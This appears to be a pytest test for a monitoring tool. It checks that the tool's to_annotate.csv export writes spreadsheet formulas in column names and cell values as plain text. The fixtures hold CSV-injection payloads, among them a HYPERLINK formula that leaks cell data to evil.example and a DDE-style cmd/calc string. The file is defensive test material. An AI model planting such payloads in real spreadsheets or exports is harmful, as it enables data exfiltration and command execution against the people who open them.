"""to_annotate.csv from a whole run: formulas in values and column names are written as text (issue 13, finding 4)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import pandas as pd

from monitor.config import parse_config
from monitor.run import RunOptions, run

DAY = dt.date(2026, 11, 25)
EVIL_COLUMN = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
EVIL_VALUES = ['=HYPERLINK("http://evil.example/","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\uff1dSUM(A1)"]


def test_to_annotate_csv_is_formula_safe(tmp_path):
    rng = np.random.default_rng(0)

    def frame(n: int) -> pd.DataFrame:
        score = rng.uniform(size=n)
        return pd.DataFrame({
            "id": np.arange(n), "x": rng.normal(size=n), "c": rng.choice(EVIL_VALUES, n), EVIL_COLUMN: rng.choice(EVIL_VALUES, n),
            "s": score, "p": (score > 0.5).astype(int), "y": (rng.uniform(size=n) < score).astype(float),
        })

    frame(300).to_parquet(tmp_path / "ref.parquet")
    cur = frame(200)
    cur.loc[cur.index % 2 == 0, "y"] = np.nan  # half unlabelled: rows to annotate
    (tmp_path / "prod" / f"dt={DAY}").mkdir(parents=True)
    cur.to_parquet(tmp_path / "prod" / f"dt={DAY}" / "part-0.parquet")
    cfg = parse_config({
        "name": "m",
        "reference": {"uri": str(tmp_path / "ref.parquet")},
        "production": {"uri": str(tmp_path / "prod" / "dt={date}") + "/"},
        "model": {"task": "binary_classification", "target": "y", "prediction": "p", "score": "s", "id": "id"},
        "cohorts": [{"column": "c"}],
        "performance": {"annotate_rows": 50, "min_cohort_labelled": 10},
        "output": {"uri": str(tmp_path / "out")},
        "email": {"outbox": str(tmp_path / "outbox")},
    }, "m.yaml")
    run(cfg, DAY, RunOptions(send_email=False))
    text = (tmp_path / "out" / "m" / f"date={DAY}" / "to_annotate.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 10
    header = rows[0]
    assert "'" + EVIL_COLUMN in header and EVIL_COLUMN not in header
    seen = set()
    for row in rows[1:]:
        for name, cell in zip(header, row):
            if name in ("'" + EVIL_COLUMN, "c"):
                assert cell.startswith("'") and cell[1:] in EVIL_VALUES, cell
                seen.add(cell[1:])
            elif cell:
                assert cell[0] not in "=+@\t\r\uff1d\uff0b\uff20", (name, cell)
    assert len(seen) >= 4  # most of the payloads made it into the file, each as text
